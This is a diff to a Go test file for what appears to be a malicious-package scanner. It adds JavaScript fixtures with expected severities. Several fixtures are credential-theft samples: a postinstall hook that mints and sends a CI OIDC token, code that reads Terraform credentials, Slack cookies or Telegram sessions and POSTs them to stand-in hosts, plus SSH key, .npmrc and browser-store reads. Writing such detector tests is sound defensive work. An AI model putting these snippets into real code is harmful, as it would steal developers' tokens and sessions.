@@ -53,12 +53,28 @@ func TestEnvHarvest(t *testing.T) {
 		{"one_var_in_request", map[string]string{"index.js": `fetch(u, { headers: { "x-home": process.env.HOME } })`}, finding.SeverityNone},
 		{"spawn_env_spread", map[string]string{"index.js": `require("child_process").spawn("node", [], {env: {...process.env, X: "1"}})`}, finding.SeverityNone},
 		{"node_env", map[string]string{"index.js": `if (process.env.NODE_ENV === "production") {}`}, finding.SeverityNone},
+		// the CI job's OIDC identity token, minted and sent away at install
+		{"oidc_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL, tok = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
+(async () => { const r = await fetch(url + "&audience=npm", { headers: { Authorization: "bearer " + tok } }); const { value } = await r.json();
+await fetch("https://collect.example.invalid/oidc", { method: "POST", body: value }) })()`}, finding.SeverityCritical},
+		// the actions toolkit asks for the token for the action itself
+		{"oidc_toolkit", map[string]string{"lib/oidc.js": `const url = process.env["ACTIONS_ID_TOKEN_REQUEST_URL"]; const tok = process.env["ACTIONS_ID_TOKEN_REQUEST_TOKEN"];
+exports.getIDToken = async aud => (await (await fetch(url + "&audience=" + aud, { headers: { Authorization: "Bearer " + tok } })).json()).value`}, finding.SeverityLow},
+		{"oidc_at_install_github_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`), "setup.js": `const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL, tok = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
+fetch(url, { headers: { Authorization: "bearer " + tok } })`}, finding.SeverityLow},
 	})
 }
 
 func TestFileAccess(t *testing.T) {
 	rt.Check(t, FileAccess{}, []rt.Case{
 		{"ssh_key_read", map[string]string{"index.js": `const fs=require("fs");fs.readFileSync(require("path").join(require("os").homedir(), ".ssh/id_rsa"))`}, finding.SeverityHigh},
+		// public keys and host names are not secrets
+		{"authorized_keys_read", map[string]string{"cli.js": `const keys = require("fs").readFileSync(require("os").homedir() + "/.ssh/authorized_keys", "utf8")`}, finding.SeverityLow},
+		// other tools' logins and sessions
+		{"terraform_token", map[string]string{"index.js": `const t = require("fs").readFileSync(require("path").join(require("os").homedir(), ".terraform.d", "credentials.tfrc.json"), "utf8"); fetch("https://x.example.invalid/t", {method: "POST", body: t})`}, finding.SeverityHigh},
+		{"telegram_session", map[string]string{"index.js": `const d = require("path").join(process.env.APPDATA, "Telegram Desktop", "tdata"); for (const f of require("fs").readdirSync(d)) upload(f)`}, finding.SeverityHigh},
+		{"slack_cookies", map[string]string{"index.js": `const c = require("fs").readFileSync(require("path").join(require("os").homedir(), ".config", "Slack", "Cookies")); fetch("https://x.example.invalid/c", {method: "POST", body: c})`}, finding.SeverityHigh},
+		{"slack_webhook_client", map[string]string{"index.js": `fetch("https://hooks.slack.com/services/T000/B000/XXXX", {method: "POST", body: JSON.stringify({text: "deployed"})})`}, finding.SeverityNone},
 		{"browser_store_list", map[string]string{"index.js": `const t=["Google/Chrome/User Data/Default","BraveSoftware/Brave-Browser/User Data","discord/Local Storage/leveldb"]`}, finding.SeverityHigh},
 		{"discord_token_regex", map[string]string{"index.js": `const re = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g; fs.readdirSync(dir).forEach(f => fs.readFileSync(f).toString().match(re))`}, finding.SeverityHigh},
 		{"npmrc_read_and_sent", map[string]string{"index.js": `const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8"); require("https").request({hostname: "x.example.invalid", method: "POST"}).end(t)`}, finding.SeverityHigh},
